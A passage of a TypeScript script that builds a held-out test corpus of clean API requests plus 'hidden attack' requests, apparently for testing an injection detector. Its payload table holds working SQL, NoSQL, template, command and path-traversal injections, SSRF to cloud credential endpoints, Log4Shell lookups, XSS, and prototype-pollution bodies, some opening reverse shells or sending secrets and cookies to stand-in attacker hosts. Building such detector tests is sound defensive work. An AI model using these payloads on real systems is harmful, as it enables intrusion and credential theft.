              { field: 'tag', relation: 'equals', condition: 'summer' },
              { field: 'price', relation: 'less_than', condition: '50' },
            ],
          },
        },
      },
      'application/vnd.api+json',
    ),
  () =>
    multipart(
      '/cms/v1/assets',
      { alt: 'Model wearing tee', folder: 'products/2026' },
      {
        name: 'file',
        filename: 'tee-front.svg',
        type: 'image/svg+xml',
        data: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#333"/></svg>',
      },
    ),
  () =>
    json('rest-write', 'POST', '/cms/v1/webhooks', {
      url: 'https://hooks.example.com/cms?sig=v1',
      events: ['page.published', 'product.updated'],
      secret: b64url(hex(32)),
    }),
  () => del(`/cms/v1/assets/${uuid()}`),
];

const qa: Array<() => Draft> = [
  () =>
    json('code', 'POST', '/api/questions', {
      title: pick([
        'How to avoid SQL injection in Node?',
        'Why does `rm -rf $DIR/` delete everything?',
        'What is prototype pollution?',
        'Jinja2 {{ }} vs {% %}?',
      ]),
      bodyMarkdown: `${pick(MARKDOWN)}\n\n\`\`\`\n${pick(CODE)}\n\`\`\``,
      tags: ['node.js', 'sql', 'security'],
    }),
  () =>
    json('code', 'POST', `/api/questions/${int(100000, 999999)}/answers`, {
      bodyMarkdown: `${pick(MARKDOWN)}\n\n\`\`\`\n${pick(CODE)}\n\`\`\``,
    }),
  () =>
    json('code', 'PATCH', `/api/answers/${int(100000, 999999)}`, {
      bodyMarkdown: pick(MARKDOWN),
      editSummary: 'fixed code formatting',
    }),
  () =>
    get(
      'search',
      `/api/search?${q({ q: pick(['"union select" prepared statement', 'log4j ${jndi} mitigation', '../ path normalize', '__proto__ lodash merge', 'nosql $where']), tagged: 'security', sort: 'votes' })}`,
    ),
  () =>
    get(
      'rest-get',
      `/api/questions?${q({ tagged: pick(['c++', 'c#', 'node.js', 'rust']), sort: 'activity', 'score[gte]': 5, page: int(1, 20) })}`,
    ),
  () =>
    json('prose', 'POST', `/api/posts/${int(100000, 999999)}/comments`, {
      body: pick([
        'This works, thanks! +1',
        'Did you try `SELECT 1`?',
        'Duplicate of https://qa.example.dev/q/12345',
        'Nope, `$(whoami)` is evaluated by the shell before the script runs.',
      ]),
    }),
  () =>
    gql(
      'query Q($id: ID!) { question(id: $id) { title bodyMarkdown answers(sort: VOTES) { bodyMarkdown score } } }',
      { id: String(int(100000, 999999)) },
      'Q',
    ),
  () => json('rest-write', 'POST', `/api/posts/${int(100000, 999999)}/votes`, { value: pick([1, -1]) }),
  () => del(`/api/comments/${int(100000, 999999)}`),
];

const DOMAINS = [wedding, fleet, lims, podcast, city311, underwriting, cms, qa];
const cleanDrafts: Draft[] = [];
for (let i = 0; i < 400; i++) {
  const dom = DOMAINS[i % DOMAINS.length];
  if (!dom) continue;
  cleanDrafts.push(pick(dom)());
}

/** JSON body paths of fields that legitimately hold rich-text HTML or source code. */
export const HELDOUT22_EXCLUDE_FIELDS: string[] = [
  'body.showNotes.html',
  'body.descriptionHtml',
  'body.source',
  'body.bodyMarkdown',
  'body.expression',
  'body.blocks.props.html',
  'body.variables.doc.blocks.props.html',
];

// ---------------------------------------------------------------- attacks
const PAYLOADS: Record<string, readonly string[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "1' UNION SELECT username, password_hash FROM users--",
    '1; DROP TABLE work_orders;--',
    "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    '1)) OR 1=1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#',
    "admin'/**/OR/**/1=1/**/--",
    "1' AND 1=CAST((SELECT current_user) AS int)--",
    "S-1' || pg_sleep(10)--",
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "sleep(5000) || true"}',
    '{"$regex": "^a.*"}',
    "'; return true; var x='",
    '{"$or": [{"status": {"$ne": "x"}}, {"role": "admin"}]}',
    '{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}',
  ],
  template: [
    '{{7*7}}{{config.__class__.__init__.__globals__["os"].popen("id").read()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}',
    '#{7*7}${{7*7}}',
    '{% import os %}{{ os.popen("cat /etc/passwd").read() }}',
    "*{T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),#response.getOutputStream())}",
  ],
  command: [
    '; cat /etc/passwd',
    '| nc 203.0.113.7 4444 -e /bin/sh',
    '$(curl -s http://203.0.113.7/x.sh|sh)',
    '`id`',
    '&& wget http://203.0.113.7/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b',
    '; bash -i >& /dev/tcp/203.0.113.7/9001 0>&1',
    '|| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    '\nsleep 10\n',
    '${IFS}cat${IFS}/etc/shadow',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fshadow',
    '....//....//....//etc/hosts',
    '..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2f.env',
    'file:///etc/passwd',
    '../../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://127.0.0.1:6379/',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://[::ffff:169.254.169.254]/latest/user-data',
    'http://2852039166/latest/meta-data/',
    'http://localhost:2375/containers/json',
    'dict://127.0.0.1:11211/stats',
    'http://169.254.170.2/v2/credentials',
  ],
  log4shell: [
    '${jndi:ldap://203.0.113.7:1389/a}',
    '${${lower:j}ndi:${lower:l}dap://203.0.113.7/x}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7/obj}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/c}',
    '${jndi:ldaps://attacker.example/${sys:java.version}}',
  ],
  xss: [
    '<script>fetch("https://attacker.example/c?"+document.cookie)</script>',
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=eval(atob("YWxlcnQoMSk="))>',
    '"><iframe src="javascript:alert(1)"></iframe>',
    '<a href="jav&#x61;script:alert(1)">click</a>',
    '<details open ontoggle=confirm(1)>',
    '</textarea><script>new Image().src="//attacker.example/?"+localStorage.token</script>',
    '<body onload=alert`1`>',
  ],
};

/** Attack placements: each builds a request from a payload; `t` names the hiding technique. */
type Place = { t: string; f: (p: string) => Draft };
const atk = (method: string, path: string, body: unknown, ct = J): Draft => ({
  ...json('attack', method, path, body, ct),
  kind: 'attack',
});
const GENERIC: Place[] = [
  {
    t: 'wedding-inquiry-message',
    f: (p) =>
      atk('POST', '/v1/inquiries', {
        vendorId: `ven_${hex(10)}`,
        eventDate: day(),
        guests: 80,
        message: `Hi! ${p}`,
      }),
  },
  {
    t: 'wedding-guest-nested-dietary',
    f: (p) =>
      atk('POST', `/v1/events/evt_${hex(12)}/guests`, {
        name: 'Tom Ray',
        dietary: { restrictions: ['vegan', p] },
      }),
  },
  {
    t: 'fleet-workorder-complaint',
    f: (p) =>
      atk('POST', '/api/v2/work-orders', {
        unitId: `U-${int(1000, 9999)}`,
        faultCodes: [pick(FAULTS)],
        complaint: p,
        priority: 'normal',
      }),
  },
  {
    t: 'fleet-json-patch-value',
    f: (p) =>
      atk(
        'PATCH',
        `/api/v2/work-orders/WO-${int(10000, 99999)}`,
        [{ op: 'replace', path: '/notes', value: p }],
        'application/json-patch+json',
      ),
  },
  {
    t: 'lims-sample-metadata-comment',
    f: (p) =>
      atk('POST', '/lims/api/samples', {
        barcode: `S-${int(100000, 999999)}`,
        matrix: 'serum',
        metadata: { comment: p },
      }),
  },
  {
    t: 'lims-jsonapi-attribute',
    f: (p) =>
      atk(
        'POST',
        '/lims/api/protocols',
        { data: { type: 'protocols', attributes: { name: p, steps: ['wash'] } } },
        'application/vnd.api+json',
      ),
  },
  {
    t: 'podcast-comment-body',
    f: (p) => atk('POST', `/v1/episodes/ep_${hex(10)}/comments`, { body: p, timestampSec: 12 }),
  },
  {
    t: 'podcast-merge-patch-title',
    f: (p) =>
      atk('PATCH', `/v1/episodes/ep_${hex(10)}`, { title: p, season: 2 }, 'application/merge-patch+json'),
  },
  {
    t: '311-request-description',
    f: (p) =>
      atk('POST', '/open311/v2/requests.json', {
        service_code: 'pothole',
        description: `Bache grande ${p}`,
        lat: 40.71,
        long: -74.0,
      }),
  },
  {
    t: '311-address-string',
    f: (p) =>
      atk('POST', '/open311/v2/requests.json', {
        service_code: 'graffiti',
        address_string: p,
        description: 'wall',
      }),
  },
  {
    t: 'uw-risk-note',
    f: (p) =>
      atk('POST', `/uw/v1/submissions/SUB-${int(10000, 99999)}/risk-notes`, { note: p, severity: 'low' }),
  },
  {
    t: 'uw-evaluate-facts-deep',
    f: (p) =>
      atk('POST', '/uw/v1/evaluate', {
        quoteId: `Q-${int(100000, 999999)}`,
        facts: { applicant: { name: p, age: 40 } },
      }),
  },
  {
    t: 'cms-block-props-title',
    f: (p) =>
      atk('PUT', '/cms/v1/pages/home', {
        title: 'Landing',
        blocks: [{ type: 'hero', id: uuid(), props: { title: p } }],
      }),
  },
  {
    t: 'cms-product-variant-color',
    f: (p) =>
      atk('POST', '/cms/v1/products', { sku: 'SKU-1', title: 'Tee', variants: [{ size: 'M', color: p }] }),
  },
  { t: 'qa-question-title', f: (p) => atk('POST', '/api/questions', { title: p, tags: ['node.js'] }) },
  { t: 'qa-comment-body', f: (p) => atk('POST', `/api/posts/${int(100000, 999999)}/comments`, { body: p }) },
  {
    t: 'graphql-variable',
    f: (p) => ({
      ...gql('query Near($q: String!) { search(q: $q) { id } }', { q: p }, 'Near'),
      kind: 'attack',
    }),
  },
  {
    t: 'ndjson-row-field',
    f: (p) => ({
      ...ndjson('/api/311/bulk/status', [
        { id: 1, status: 'closed', note: 'ok' },
        { id: 2, status: 'closed', note: p },
      ]),
      kind: 'attack',
    }),
  },
  {
    t: 'json-in-string-field',
    f: (p) =>
      atk('POST', '/cms/v1/webhooks', {
        url: 'https://hooks.example.com/x',
        config: JSON.stringify({ filter: p }),
      }),
  },
  {
    t: 'unicode-escaped-json',
    f: (p) => ({
      ...atk('POST', '/v1/inquiries', {}),
      body: `{"vendorId":"ven_1","message":"${[...p].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
    }),
  },
  {
    t: 'query-string-filter',
    f: (p) => ({
      kind: 'attack',
      method: 'GET',
      path: `/cms/v1/products?${q({ 'filter[title][like]': p, locale: 'en-US' })}`,
      headers: headers(),
      body: '',
    }),
  },
  {
    t: 'array-of-tags',
    f: (p) =>
      atk(
        'PATCH',
        `/v1/episodes/ep_${hex(10)}`,
        { tags: ['interview', p, 'tech'] },
        'application/merge-patch+json',
      ),
  },
];
const FAMILY_PLACES: Record<string, Place[]> = {
  sql: [
    {
      t: 'search-q-param',
      f: (p) => ({
        kind: 'attack',
        method: 'GET',
        path: `/lims/api/samples?${q({ project: p, sort: 'barcode' })}`,
        headers: headers(),
        body: '',
      }),
    },
    {
      t: 'sort-field-body',
      f: (p) => atk('POST', '/api/v2/units/query', { filter: { status: 'active' }, sort: `odometer ${p}` }),
    },
  ],
  nosql: [
    {
      t: 'operator-object-login',
      f: (p) => ({
        ...atk('POST', '/v1/auth/login', {}),
        body: `{"email":"admin@example.com","password":${p.startsWith('{') ? p : JSON.stringify(p)}}`,
      }),
    },
    {
      t: 'operator-object-filter',
      f: (p) => ({
        ...atk('POST', '/api/311/requests/search', {}),
        body: `{"filter":{"ward":${p.startsWith('{') ? p : JSON.stringify(p)}},"limit":50}`,
      }),
    },
    {
      t: 'bracket-query-operator',
      f: () => ({
        kind: 'attack',
        method: 'GET',
        path: `/v1/vendors?${q({ 'owner[$ne]': 'x', 'password[$regex]': '^a' })}`,
        headers: headers(),
        body: '',
      }),
    },
  ],
  'prototype-pollution': [],
  ssrf: [
    { t: 'webhook-url', f: (p) => atk('POST', '/cms/v1/webhooks', { url: p, events: ['page.published'] }) },
    {
      t: 'media-url-fetch',
      f: (p) =>
        atk('POST', '/open311/v2/requests.json', {
          service_code: 'pothole',
          description: 'hole',
          media_url: p,
        }),
    },
    {
      t: 'audio-import-url',
      f: (p) => atk('POST', `/v1/shows/shw_${hex(8)}/episodes/import`, { audio: { url: p } }),
    },
  ],
  'path-traversal': [
    {
      t: 'attachment-filename',
      f: (p) => atk('POST', `/lims/api/samples/S-1/attachments`, { filename: p, contentType: 'text/plain' }),
    },
    {
      t: 'multipart-filename',
      f: (p) => ({
        ...multipart(
          '/cms/v1/assets',
          { alt: 'x' },
          { name: 'file', filename: p, type: 'image/png', data: 'PNG' },
        ),
        kind: 'attack',
      }),
    },
    { t: 'export-template-path', f: (p) => atk('POST', '/uw/v1/reports', { template: p, format: 'pdf' }) },
  ],
};
const PP_BODIES: Array<{ t: string; f: () => Draft }> = [
  {
    t: 'top-level-__proto__',
    f: () => ({
      ...atk('PATCH', `/v1/events/evt_${hex(12)}`, {}, 'application/merge-patch+json'),
      body: '{"title":"x","__proto__":{"isAdmin":true}}',
    }),
  },
  {
    t: 'nested-__proto__',
    f: () => ({
      ...atk('POST', '/uw/v1/evaluate', {}),
      body: `{"quoteId":"Q-${int(100000, 999999)}","facts":{"applicant":{"__proto__":{"role":"underwriter_admin"}}}}`,
    }),
  },
  {
    t: 'constructor-prototype',
    f: () => ({
      ...atk('PUT', '/cms/v1/pages/home', {}),
      body: '{"blocks":[{"type":"hero","props":{"constructor":{"prototype":{"polluted":"yes"}}}}]}',
    }),
  },
  {
    t: 'json-patch-path-__proto__',
    f: () =>
      atk(
        'PATCH',
        `/lims/api/samples/S-${int(100000, 999999)}`,
        [{ op: 'add', path: '/__proto__/admin', value: true }],
        'application/json-patch+json',
      ),
  },
  {
    t: 'json-patch-path-constructor',
    f: () =>
      atk(
        'PATCH',
        `/cms/v1/pages/${uuid()}`,
        [{ op: 'replace', path: '/constructor/prototype/shell', value: '/bin/sh' }],
        'application/json-patch+json',
      ),
  },
  {
    t: 'dotted-key-__proto__',
    f: () => atk('POST', '/api/v2/units/query', { filter: { '__proto__.isAdmin': true } }),
  },
  {
    t: 'form-bracket-__proto__',
    f: () => ({
      ...form('/v1/newsletter/subscribe', { email: 'a@b.co', '__proto__[admin]': 'true' }),
      kind: 'attack',
    }),
  },
  {
    t: 'query-string-__proto__',
    f: () => ({
      kind: 'attack',
      method: 'GET',
      path: `/api/questions?${q({ tagged: 'node.js', '__proto__[isAdmin]': 'true' })}`,
      headers: headers(),
      body: '',
    }),
  },
  {
    t: 'unicode-escaped-__proto__',
    f: () => ({
      ...atk('POST', '/v1/inquiries', {}),
      body: '{"message":"hi","\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
    }),
  },
  {
    t: 'graphql-variable-__proto__',
    f: () => ({
      ...gql('mutation S($doc: JSON!) { savePageDraft(id: "1", document: $doc) { id } }', {}, 'S'),
      kind: 'attack',
      body: '{"operationName":"S","query":"mutation S($doc: JSON!) { savePageDraft(id: \\"1\\", document: $doc) { id } }","variables":{"doc":{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');//"}}}}',
    }),
  },
  {
    t: 'ndjson-row-__proto__',
    f: () => ({
      ...ndjson('/api/v2/telemetry/ingest', [{ vin: 'X', spn: 1 }]),
      kind: 'attack',
      body: '{"vin":"X","spn":1}\n{"vin":"Y","__proto__":{"polluted":1}}\n',
    }),
  },
  {
    t: 'array-element-constructor',
    f: () => ({
      ...atk('POST', '/cms/v1/products', {}),
      body: '{"sku":"S1","variants":[{"size":"M"},{"constructor":{"prototype":{"toString":"pwn"}}}]}',
    }),
  },
];

const attackDrafts: Array<Draft & { family: string; technique: string }> = [];
for (const family of [
  'sql',
  'nosql',
  'template',
  'command',
  'path-traversal',
  'ssrf',
  'prototype-pollution',
  'log4shell',
  'xss',
]) {
  for (let i = 0; i < 30; i++) {
    if (family === 'prototype-pollution') {
      const pp = PP_BODIES[i % PP_BODIES.length];
      if (!pp) continue;
      attackDrafts.push({ ...pp.f(), kind: 'attack', family, technique: pp.t });
      continue;
    }
    const payloads = PAYLOADS[family] ?? [];
    const special = FAMILY_PLACES[family] ?? [];
    const place = i % 3 === 0 && special.length > 0 ? pick(special) : pick(GENERIC);
    const payload = payloads[i % payloads.length] ?? '';
    attackDrafts.push({ ...place.f(payload), kind: 'attack', family, technique: place.t });
  }
}

/** The held-out corpus 22: clean production-like traffic and hidden attacks. */
export const heldout22: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: cleanDrafts.map((d, i) => ({ id: `h22c${i + 1}`, ...d })),
  attacks: attackDrafts.map((d, i) => {
    const { kind, family, technique, method, path, headers: h, body } = d;
    return { id: `h22a${i + 1}`, kind, family, technique, method, path, headers: h, body };
  }),
};

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout22.json'), `${JSON.stringify(heldout22.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout22.json'), `${JSON.stringify(heldout22.attacks, null, 2)}\n`);
  const count = (xs: CorpusRequest[], k: (r: CorpusRequest) => string): Record<string, number> => {
    const o: Record<string, number> = {};
    for (const r of xs) o[k(r)] = (o[k(r)] ?? 0) + 1;
    return o;
  };
  console.log(
    `clean: ${heldout22.clean.length}`,
    count(heldout22.clean, (r) => r.kind),
  );
  console.log(
    `attacks: ${heldout22.attacks.length}`,
    count(heldout22.attacks, (r) => r.family ?? '?'),
  );
}
